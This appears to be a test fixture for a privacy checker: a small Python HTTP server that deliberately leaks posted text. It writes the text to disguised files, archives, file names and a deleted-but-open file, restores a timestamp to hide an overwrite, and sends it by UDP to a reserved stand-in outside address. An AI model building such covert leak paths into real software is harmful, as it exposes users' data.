"""A small program with a page, made to leak: the proof of privacy must catch it.

``leaky_program.py LEAK FOLDER`` serves on a free port of this computer and prints the
address. Whatever is posted to it is leaked in the way that LEAK names.
"""

from __future__ import annotations

import base64
import contextlib
import gzip
import os
import signal
import socket
import sqlite3
import sys
import tempfile
import zipfile
from collections.abc import Callable
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path

OUTSIDE = ("198.51.100.7", 9)
"""Set aside for documentation (RFC 5737): nobody is there."""
NO_ROUTE = "no way out of this computer at all"
FOLDER = Path(sys.argv[2])
_held: list[object] = []


def _nothing(words: str) -> None:
    del words


def _print(words: str) -> None:
    print(f"debug: {words}", file=sys.stderr, flush=True)


def _traceback(words: str) -> None:
    del words
    raise ValueError


def _file(words: str) -> None:
    (FOLDER / "log.txt").write_text(f"they said {words.upper()}", "utf-8")


def _wide_file(words: str) -> None:
    (FOLDER / "log.bin").write_bytes(words.encode("utf-16-be"))


def _base64_file(words: str) -> None:
    (FOLDER / "frame").write_bytes(base64.b64encode(f'{{"said": "{words}"'.encode()))


def _zip(words: str) -> None:
    with zipfile.ZipFile(FOLDER / "x.zip", "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("inside", words * 50)


def _gzip(words: str) -> None:
    with gzip.open(FOLDER / "x.gz", "wb") as file:
        file.write(words.encode() * 50)


def _sqlite(words: str) -> None:
    with contextlib.closing(sqlite3.connect(FOLDER / "x.db")) as store, store:
        store.execute("create table said (words text)")
        store.execute("insert into said values (?)", (words,))


def _name(words: str) -> None:
    (FOLDER / words.replace(" ", "-")).touch()


def _folder_name(words: str) -> None:
    (FOLDER / words.replace(" ", "-")).mkdir()


def _deleted_but_open(words: str) -> None:
    file = tempfile.TemporaryFile(dir=FOLDER)  # noqa: SIM115  # held open on purpose
    file.write(words.encode())
    file.flush()
    _held.append(file)


def _old_time(words: str) -> None:
    there = FOLDER / "old.txt"
    before = there.stat()
    there.write_text(words[: before.st_size].ljust(before.st_size), "utf-8")
    os.utime(there, ns=(before.st_atime_ns, before.st_mtime_ns))


def _connect(words: str) -> None:
    del words
    sock = socket.socket()
    sock.setblocking(False)
    try:
        sock.connect(OUTSIDE)
    except BlockingIOError:
        pass  # on its way
    except OSError:
        print(NO_ROUTE, flush=True)
    _held.append(sock)


def _datagram(words: str) -> None:
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    with contextlib.suppress(OSError):
        sock.sendto(words.encode(), OUTSIDE)
    sock.close()


def _child_connects(words: str) -> None:
    code = (
        "import socket, time; s = socket.socket(); s.setblocking(False)\n"
        f"try: s.connect({OUTSIDE})\n"
        "except BlockingIOError: pass\n"
        f"except OSError: print({NO_ROUTE!r}, flush=True)\n"
        "time.sleep(30)"
    )
    del words
    _held.append(os.spawnl(os.P_NOWAIT, sys.executable, sys.executable, "-c", code))


def _listen(words: str) -> None:
    del words
    sock = socket.socket()
    sock.bind(("0.0.0.0", 0))
    sock.listen()
    _held.append(sock)


LEAKS: dict[str, Callable[[str], None]] = {
    "nothing": _nothing,
    "print": _print,
    "traceback": _traceback,
    "file": _file,
    "wide-file": _wide_file,
    "base64-file": _base64_file,
    "zip": _zip,
    "gzip": _gzip,
    "sqlite": _sqlite,
    "name": _name,
    "folder-name": _folder_name,
    "deleted-but-open": _deleted_but_open,
    "old-time": _old_time,
    "connect": _connect,
    "datagram": _datagram,
    "child-connects": _child_connects,
    "listen": _listen,
}


class _Page(BaseHTTPRequestHandler):
    def do_POST(self) -> None:
        size = int(self.headers["content-length"])
        LEAKS[sys.argv[1]](self.rfile.read(size).decode())
        self.send_response(204)
        self.end_headers()

    def log_message(self, *_: object) -> None:
        """Be quiet: what is printed is what leaks."""


def main() -> None:
    signal.signal(signal.SIGTERM, lambda *_: sys.exit(0))
    server = HTTPServer(("127.0.0.1", 0), _Page)
    print(f"http://127.0.0.1:{server.server_port}/", flush=True)
    server.serve_forever()


if __name__ == "__main__":
    main()
